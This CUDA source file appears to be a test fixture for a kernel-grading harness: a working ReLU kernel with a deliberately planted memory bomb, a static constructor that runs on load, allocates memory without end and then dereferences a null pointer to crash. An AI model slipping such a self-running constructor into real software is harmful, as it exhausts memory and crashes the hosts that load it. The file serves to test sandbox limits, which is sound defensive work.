// kgate-task: relu
// planted defect: HOSTILE (memory bomb). A static constructor allocates and
// touches host memory in 64 MiB steps until malloc fails, then writes
// through the null pointer. RLIMIT_DATA stops it at the harness's limit
// (8 GiB, or a quarter of the RAM), long before the machine runs out; the
// crash is the verdict (L2) and the report gives the peak.
#include <cuda_runtime.h>
#include <stdlib.h>
#include <string.h>

__attribute__((constructor)) static void eat(void)
{
    for (;;) {
        char* p = (char*)malloc(64u << 20);
        if (!p) {
            volatile char* q = NULL;
            *q = 1;   /* nothing left: crash */
        }
        memset(p, 1, 64u << 20);
    }
}

__global__ void relu_kernel(const float* x, float* y, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = fmaxf(x[i], 0.0f);
}

extern "C" void launch(const float* x, float* y, int n, cudaStream_t stream)
{
    relu_kernel<<<(n + 255) / 256, 256, 0, stream>>>(x, y, n);
}
